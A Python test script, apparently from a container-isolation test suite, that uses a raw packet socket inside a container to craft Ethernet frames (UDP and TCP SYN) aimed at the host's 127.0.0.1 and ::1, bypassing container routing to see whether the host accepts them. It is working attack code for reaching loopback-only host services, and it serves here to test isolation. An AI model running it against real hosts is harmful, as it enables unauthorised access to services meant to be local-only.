"""A container with a raw socket (Docker's default NET_RAW) aims at the host's loopback.

Run inside the container's network namespace (``nsenter --net=/proc/PID/ns/net python3 THIS
...``: the test image has no packet crafter, and the namespace is what decides where a frame
goes). It writes whole Ethernet frames on ``eth0`` to the gateway's MAC, addressed to the host's
``127.0.0.1`` (a UDP datagram and a TCP SYN) and ``::1`` (a UDP datagram), from the container's
own addresses. Routing inside the container is bypassed, as an attacker would: whether anything
arrives is up to the host alone.

    python3 loopback_attack.py GATEWAY_MAC SRC_V4 PORT [SRC_V6]
"""

from __future__ import annotations

import random
import socket
import struct
import sys

#: source ports of this run: a tuple an earlier run left in conntrack would count as an answer
SPORT = random.randrange(20000, 60000)


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ipv4(src: str, dst: str, proto: int, payload: bytes) -> bytes:
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 0x1234, 0x4000, 64, proto,
                         0, socket.inet_aton(src), socket.inet_aton(dst))
    return header[:10] + struct.pack("!H", checksum(header)) + header[12:] + payload


def udp4(src: str, dst: str, port: int, data: bytes) -> bytes:
    return ipv4(src, dst, 17, struct.pack("!HHHH", SPORT, port, 8 + len(data), 0) + data)


def syn4(src: str, dst: str, port: int) -> bytes:
    tcp = struct.pack("!HHIIBBHHH", SPORT + 1, port, 1, 0, 5 << 4, 0x02, 65535, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    return ipv4(src, dst, 6, tcp)


def udp6(src: str, dst: str, port: int, data: bytes) -> bytes:
    s, d = socket.inet_pton(socket.AF_INET6, src), socket.inet_pton(socket.AF_INET6, dst)
    udp = struct.pack("!HHHH", SPORT + 2, port, 8 + len(data), 0) + data
    pseudo = s + d + struct.pack("!I3xB", len(udp), 17)
    udp = udp[:6] + struct.pack("!H", checksum(pseudo + udp) or 0xFFFF) + udp[8:]
    return struct.pack("!IHBB", 0x60000000, len(udp), 17, 64) + s + d + udp


def main(gateway_mac: str, src4: str, port: int, src6: str = "") -> None:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind(("eth0", 0))
        own_mac = sock.getsockname()[4]
        dst_mac = bytes.fromhex(gateway_mac.replace(":", ""))
        frames = [(0x0800, udp4(src4, "127.0.0.1", port, b"raw-udp4\n")),
                  (0x0800, syn4(src4, "127.0.0.1", port))]
        if src6:
            frames.append((0x86DD, udp6(src6, "::1", port, b"raw-udp6\n")))
        for ethertype, packet in frames:
            for _ in range(3):  # a lost frame is not a closed door
                sock.send(dst_mac + own_mac + struct.pack("!H", ethertype) + packet)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], int(sys.argv[3]), *sys.argv[4:5])
